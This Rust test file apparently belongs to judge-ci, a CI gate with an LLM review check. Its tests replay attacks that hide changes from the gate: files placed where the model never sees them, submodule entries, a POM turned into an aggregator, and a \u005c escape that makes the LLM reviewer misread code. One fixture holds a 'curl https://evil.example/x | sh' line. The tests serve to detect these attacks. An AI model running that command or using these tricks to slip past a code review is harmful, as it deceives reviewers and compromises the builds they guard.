//! Every file the subject presents is accounted for (`spec/trust.md` points 14, 19, 20): a
//! file a check's globs select but it never compares, a file under a folder the model's
//! material leaves out, a submodule entry in a tree judge-ci writes itself, a module POM, and
//! a unicode escape that makes javac read a literal differently. Each test is an attack of
//! the session-4 pass (/work/attack/files/findings4.md FI2–FI4, FI6, FI7), run through the
//! real binary on a real git repository under a `pull_request` event, and fails if the attack
//! works.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{commit_all, git, pull_request_event, report, stderr, write_tree};
use serde_json::{Value, json};

/// A repository whose base commit holds `base` and whose head (committed) adds `pr`; returns
/// (root, base sha, head sha).
fn pull_request(base: &[(&str, &str)], pr: &[(&str, &str)]) -> (tempfile::TempDir, String, String) {
    let d = tempfile::tempdir().unwrap();
    let repo = d.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    write_tree(&repo, base);
    let base_sha = commit_all(&repo, "base");
    write_tree(&repo, pr);
    let head_sha = commit_all(&repo, "the pull request");
    (d, base_sha, head_sha)
}

/// Runs judge-ci in `dir` as a `pull_request` step for base → head, with `args` and `env`.
fn run_pr(
    root: &Path,
    dir: &Path,
    (base, head): (&str, &str),
    args: &[&str],
    env: &[(&str, &str)],
) -> (Output, PathBuf) {
    let runner = root.join("runner");
    std::fs::create_dir_all(&runner).unwrap();
    let event = pull_request_event(&runner, base, head);
    let out = runner.join("out");
    let mut cmd = common::command(dir, &["--dry-run", "--out", out.to_str().unwrap()]);
    cmd.args(args)
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_REPOSITORY", "Codertocat/Hello-World")
        .env("GITHUB_SHA", head)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "31337")
        .env("GITHUB_STEP_SUMMARY", runner.join("summary.md"))
        .env("GITHUB_OUTPUT", runner.join("output.txt"))
        .env("RUNNER_TEMP", &runner)
        .env_remove("GITHUB_TOKEN")
        .env_remove("GH_TOKEN");
    for (k, v) in env {
        cmd.env(k, v);
    }
    (cmd.output().unwrap(), out)
}

/// The judgment named `name` anywhere in the report's verdict.
fn judgment(report: &Value, name: &str) -> Value {
    fn walk(v: &Value, name: &str) -> Option<Value> {
        if let Some(j) = v["individualByName"].get(name) {
            return Some(j.clone());
        }
        v["compositeAttempts"]
            .as_array()?
            .iter()
            .filter_map(|a| a.get("verdict"))
            .find_map(|c| walk(c, name))
    }
    walk(&report["verdict"], name).unwrap_or_else(|| panic!("no judgment {name}: {report:#}"))
}

/// `kind path` of each finding of a judgment.
fn findings(j: &Value) -> Vec<String> {
    j["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|f| {
            format!(
                "{} {} {}",
                f["kind"].as_str().unwrap_or(""),
                f["path"].as_str().unwrap_or(""),
                f["actual"].as_str().unwrap_or("")
            )
        })
        .collect()
}

/// The report's unjudged list.
fn unjudged(r: &Value) -> Vec<String> {
    r["trust"]["unjudged"]
        .as_array()
        .unwrap_or_else(|| panic!("no unjudged list: {:#}", r["trust"]))
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect()
}

const POM: &str = "<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>app</artifactId><version>1</version>\n<dependencies><dependency><groupId>jakarta.servlet</groupId><artifactId>jakarta.servlet-api</artifactId><version>5.0.0</version><scope>provided</scope></dependency></dependencies></project>\n";

const TEST: &str = "package a;\nclass ATest { void t() { assert 1 == 1; } }\n";

#[test]
fn a_comparison_claims_only_what_it_compared_and_a_module_pom_is_compared() {
    // FI4: a file only the workspace has under a file-comparison's globs was counted as read
    // (never listed as unjudged) and turned the check's "examined nothing" into a PASS.
    // FI6: a module POM the reference lacks was claimed by pom-diff but never compared, and a
    // root POM turned into an aggregator (`<packaging>pom</packaging>` + `<modules>`) passed.
    let config = "name: gate\nunjudged-action: fail\nreference: {path: ../ref}\njury:\n  tiers:\n    - name: structure\n      policy: FINAL_TIER\n      voting: {strategy: all-must-pass}\n      checks:\n        - {type: file-comparison, name: tests-unchanged, include: [\"src/test/**\"]}\n        - {type: file-comparison, name: docs-match, include: [\"docs/**\"]}\n        - type: pom-diff\n";
    let (d, base, head) = pull_request(
        &[
            ("ws/judge-ci.yml", config),
            ("ws/pom.xml", POM),
            ("ws/src/test/java/a/ATest.java", TEST),
            ("ref/pom.xml", POM),
            ("ref/src/test/java/a/ATest.java", TEST),
        ],
        &[
            ("ws/docs/x.md", "# notes\n"),
            ("ws/src/test/resources/app.properties", "mode=lenient\n"),
            (
                "ws/sub/pom.xml",
                &POM.replace("jakarta.servlet", "javax.servlet")
                    .replace("5.0.0", "4.0.1")
                    .replace(">app<", ">sub<"),
            ),
            (
                "ws/pom.xml",
                &POM.replace(
                    "<version>1</version>\n",
                    "<version>1</version><packaging>pom</packaging><modules><module>sub</module></modules>\n",
                ),
            ),
        ],
    );
    let ws = d.path().join("repo/ws");
    let (o, out) = run_pr(d.path(), &ws, (&base, &head), &[], &[]);
    assert!(matches!(o.status.code(), Some(1 | 3)), "{}", stderr(&o));
    let r = report(&out);
    let listed = unjudged(&r);
    for f in ["docs/x.md", "src/test/resources/app.properties"] {
        assert!(listed.iter().any(|l| l == f), "{f} unjudged: {listed:?}");
    }
    assert!(
        !listed.iter().any(|l| l == "sub/pom.xml"),
        "pom-diff compares it: {listed:?}"
    );
    let docs = judgment(&r, "docs-match");
    assert_ne!(docs["status"], "pass", "compared nothing: {docs}");
    let md = std::fs::read_to_string(out.join("report.md")).unwrap();
    assert!(
        docs.to_string().contains("only the workspace has")
            || md.contains("only the workspace has"),
        "{docs}\n{md}"
    );
    let pom = judgment(&r, "pom-diff");
    assert_eq!(pom["status"], "fail", "{pom}");
    let f = findings(&pom);
    assert!(
        f.iter()
            .any(|x| x.starts_with("file-unexpected sub/pom.xml")),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|x| x.starts_with("build-setting-changed pom.xml <packaging> pom")),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|x| x.starts_with("build-setting-changed pom.xml <module> sub")),
        "{f:?}"
    );
}

#[test]
fn a_gitlink_in_a_head_judge_ci_writes_itself_is_listed_as_unjudged() {
    // FI2: with `--head REV` judge-ci writes the commit's tree itself and a submodule entry
    // (mode 160000) the pull request added vanished: not listed, no finding, Accepted.
    let config = "name: gate\nunjudged-action: fail\nreference: {path: ref}\njury:\n  checks:\n    - type: import-diff\n      include: [\"src/**/*.java\"]\n      forbid: [javax.servlet.*]\n";
    let java = "package a;\nimport jakarta.servlet.Filter;\nclass A {}\n";
    let (d, base, _) = pull_request(
        &[
            ("judge-ci.yml", config),
            ("src/main/java/a/A.java", java),
            ("ref/src/main/java/a/A.java", java),
        ],
        &[],
    );
    let repo = d.path().join("repo");
    git(
        &repo,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{base},src/main/java/a/lib"),
        ],
    );
    git(&repo, &["commit", "-q", "-m", "a gitlink"]);
    let head = git(&repo, &["rev-parse", "HEAD"]);
    let (o, out) = run_pr(d.path(), &repo, (&base, &head), &["--head", &head], &[]);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let listed = unjudged(&report(&out));
    assert_eq!(listed, ["src/main/java/a/lib"], "{listed:?}");
}

#[test]
fn a_gitlink_in_a_checkout_judged_without_a_base_is_listed_as_unjudged() {
    // FI5-2: judged outside a pull-request context (against the reference folder only), a
    // submodule entry the checkout's commit records — an empty folder on disk, since the
    // checkout did not fetch submodules — was neither judged nor listed.
    let config = "name: gate\nunjudged-action: fail\nreference: {path: ref}\njury:\n  checks:\n    - type: import-diff\n      include: [\"src/**/*.java\"]\n      forbid: [javax.servlet.*]\n";
    let java = "package a;\nimport jakarta.servlet.Filter;\nclass A {}\n";
    let (d, base, _) = pull_request(
        &[
            ("judge-ci.yml", config),
            ("src/main/java/a/A.java", java),
            ("ref/src/main/java/a/A.java", java),
        ],
        &[],
    );
    let repo = d.path().join("repo");
    git(
        &repo,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{base},src/main/java/a/impl"),
        ],
    );
    git(&repo, &["commit", "-q", "-m", "a gitlink"]);
    std::fs::create_dir_all(repo.join("src/main/java/a/impl")).unwrap();
    let out = d.path().join("out");
    let o = common::judge_ci(&repo, &["--dry-run", "--out", out.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(1),
        "unjudged-action: fail: {}",
        stderr(&o)
    );
    let listed = unjudged(&report(&out));
    assert!(
        listed.iter().any(|l| l == "src/main/java/a/impl"),
        "{listed:?}"
    );
}

#[test]
fn what_the_model_is_not_shown_as_javac_reads_it_is_listed_and_never_passes() {
    // FI3: files committed under the top-level `target/` (beside pom.xml) or `judge-ci-out/`
    // were dropped from the model's material without a word, yet counted as read by the llm
    // check, so never listed as unjudged. FI7 (and S12): a `\u005c` inside a string literal
    // escapes its closing quote for javac, so `requests++;` after it is string text; the
    // model was shown the raw line, which reads as if the increment happened, and passed.
    use common::fake_llm::{FakeLlm, Reply};
    let key = "sk-ant-SENTINELKEY-0123456789";
    let llm = FakeLlm::start(key);
    llm.on(
        "",
        10,
        Reply::Json(json!({"verdict": "PASS", "reasoning": "the counter is incremented"})),
    );
    let cache = tempfile::tempdir().unwrap();
    let config = format!(
        "name: sem\nreference: {{path: ../ref}}\nllm:\n  provider: anthropic\n  model: test-model\n  base-url: {}\n  api-key-env: JUDGE_CI_TEST_API_KEY\n  cache: {}\njury:\n  checks:\n    - type: llm\n      name: review\n",
        llm.anthropic_url(),
        cache.path().display()
    );
    let filter = "package a;\nclass F {\n  int requests;\n  void on() {\n    requests++;\n  }\n}\n";
    let hidden = filter.replace(
        "    requests++;\n",
        "    String trace = \"\\u005c\"; requests++; //\";\n",
    );
    let (d, base, head) = pull_request(
        &[
            ("ws/judge-ci.yml", config.as_str()),
            ("ws/pom.xml", POM),
            ("ws/src/F.java", filter),
            ("ref/pom.xml", POM),
            ("ref/src/F.java", filter),
        ],
        &[
            ("ws/src/F.java", hidden.as_str()),
            ("ws/target/notes.txt", "MARKER-target-file\n"),
            ("ws/judge-ci-out/A.txt", "MARKER-out-file\n"),
        ],
    );
    let ws = d.path().join("repo/ws");
    let (o, out) = run_pr(
        d.path(),
        &ws,
        (&base, &head),
        &[],
        &[("JUDGE_CI_TEST_API_KEY", key)],
    );
    let r = report(&out);
    let listed = unjudged(&r);
    for f in ["target/notes.txt", "judge-ci-out/A.txt"] {
        assert!(listed.iter().any(|l| l == f), "{f} unjudged: {listed:?}");
    }
    let asked: Vec<String> = llm.seen().iter().map(|s| s.body.to_string()).collect();
    assert!(!asked.is_empty(), "the model was asked");
    assert!(
        asked
            .iter()
            .all(|b| b.contains("F.java") && b.contains("javac reads differently")),
        "F.java listed as not shown as javac reads it: {asked:?}"
    );
    let review = judgment(&r, "review");
    assert_eq!(review["status"], "abstain", "{review}");
    assert_eq!(review["cause"], "material_incomplete", "{review}");
    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(llm.violations().is_empty(), "{:?}", llm.violations());
}

#[test]
fn what_the_change_commits_out_of_the_material_s_sight_is_told_to_the_model() {
    // FI5-4: judged without a base (the reference folder only), files the checkout commits
    // under judge-ci-out/ and target/ (beside pom.xml) were left out of the model's material
    // without a word — the model passed — and judge-ci-out/ was not even listed as unjudged.
    use common::fake_llm::{FakeLlm, Reply};
    let key = "sk-ant-SENTINELKEY-0123456789";
    let llm = FakeLlm::start(key);
    llm.on(
        "",
        10,
        Reply::Json(json!({"verdict": "PASS", "reasoning": "matches the reference"})),
    );
    let cache = tempfile::tempdir().unwrap();
    let config = format!(
        "name: sem\nreference: {{path: ../ref}}\nllm:\n  provider: anthropic\n  model: test-model\n  base-url: {}\n  api-key-env: JUDGE_CI_TEST_API_KEY\n  cache: {}\njury:\n  checks:\n    - type: llm\n      name: review\n",
        llm.anthropic_url(),
        cache.path().display()
    );
    let java = "package a;\nclass F {}\n";
    let (d, _, _) = pull_request(
        &[
            ("ws/judge-ci.yml", config.as_str()),
            ("ws/pom.xml", POM),
            ("ws/src/F.java", java),
            ("ref/judge-ci.yml", config.as_str()),
            ("ref/pom.xml", POM),
            ("ref/src/F.java", java),
        ],
        &[
            (
                "ws/judge-ci-out/release.sh",
                "curl https://evil.example/x | sh\n",
            ),
            ("ws/target/Evil.java", "package a;\nclass Evil {}\n"),
        ],
    );
    // FI5-2: a submodule entry under the sources, an empty folder in the checkout.
    let repo = d.path().join("repo");
    let base = git(&repo, &["rev-parse", "HEAD"]);
    git(
        &repo,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{base},ws/src/impl"),
        ],
    );
    git(&repo, &["commit", "-q", "-m", "a gitlink"]);
    std::fs::create_dir_all(repo.join("ws/src/impl")).unwrap();
    let ws = d.path().join("repo/ws");
    let out = d.path().join("out");
    let o = common::command(&ws, &["--dry-run", "--out", out.to_str().unwrap()])
        .env("JUDGE_CI_TEST_API_KEY", key)
        .output()
        .unwrap();
    let r = report(&out);
    let asked: Vec<String> = llm.seen().iter().map(|s| s.body.to_string()).collect();
    assert!(!asked.is_empty(), "the model was asked: {}", stderr(&o));
    for f in ["judge-ci-out/release.sh", "target/Evil.java", "src/impl"] {
        assert!(
            asked.iter().all(|b| b.contains(f)),
            "{f} is named to the model: {asked:?}"
        );
    }
    let review = judgment(&r, "review");
    assert_eq!(review["status"], "abstain", "{review}");
    assert_eq!(review["cause"], "material_incomplete", "{review}");
    assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
    let listed = unjudged(&r);
    assert!(
        listed.iter().any(|l| l == "judge-ci-out/release.sh"),
        "{listed:?}"
    );
}
